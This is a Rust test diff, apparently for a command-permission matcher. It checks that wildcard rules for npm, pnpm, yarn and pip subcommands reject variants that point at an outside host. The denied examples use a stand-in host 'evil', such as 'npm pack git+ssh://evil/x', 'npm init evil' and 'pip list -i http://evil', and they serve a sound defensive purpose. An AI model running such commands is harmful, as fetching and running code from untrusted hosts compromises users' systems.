@@ -458,3 +458,55 @@ fn no_star_stands_in_the_name_that_pipx_runs() {
         ("pipx install acme-*", &["pipx install acme-x@1.2"], &["pipx run acme-x"]),
     ]);
 }
+
+/// `npm` sends a request to an address, and runs the code of a repository that it packs.
+#[test]
+fn what_shows_packages_takes_their_names() {
+    for program in ["npm", "pnpm", "yarn"] {
+        for verb in ["view", "info", "show", "pack", "docs", "repo", "bugs"] {
+            let call = |words: &str| format!("{program} {verb} {words}");
+            families(&[(
+                &call("*"),
+                &[&call("acme"), &call("@acme/x"), &call("acme@1.2"), &call("acme versions"), &call("./packages/a")],
+                &[
+                    &call("https://evil/x"),
+                    &call("git+ssh://evil/x"),
+                    &call("a/b"),
+                    &call("github:a/b"),
+                    &call("acme https://evil/x"),
+                    &call("acme@https://evil/x"),
+                ],
+            )]);
+        }
+    }
+    families(&[
+        ("npm view acme-*", &["npm view acme-x", "npm view acme-x version"], &["npm view acme-x https://evil/x"]),
+        ("npm view https://h/*", &["npm view https://h/x"], &["npm view https://h/x https://evil"]),
+        ("npm --silent pack *", &["npm --silent pack acme"], &["npm --silent pack a/b"]),
+        ("npm *", &["npm pack a/b"], &[]),
+        ("npm init *", &["npm init -y"], &["npm init evil", "npm init -y evil", "npm innit evil"]),
+        ("npm init vite *", &["npm init vite -y"], &["npm init evil"]),
+        (
+            "pip list *",
+            &["pip list --outdated", "pip list --format json"],
+            &[
+                "pip list --outdated --index-url http://evil",
+                "pip list --outdated -i http://evil",
+                "pip list --outdated -f http://evil",
+                "pip list --extra-index-url=http://evil",
+                "pip list --trusted-host evil",
+            ],
+        ),
+        ("pip index versions *", &["pip index versions x"], &["pip index versions x -i http://evil"]),
+        (
+            "pip install *",
+            &["pip install -i http://h x", "pip install --index-url http://h x", "pip install -f x y"],
+            &[],
+        ),
+        (
+            "pip install acme-*",
+            &["pip install acme-x"],
+            &["pip install -i http://h acme-x", "pip install -ihttp://h acme-x"],
+        ),
+    ]);
+}
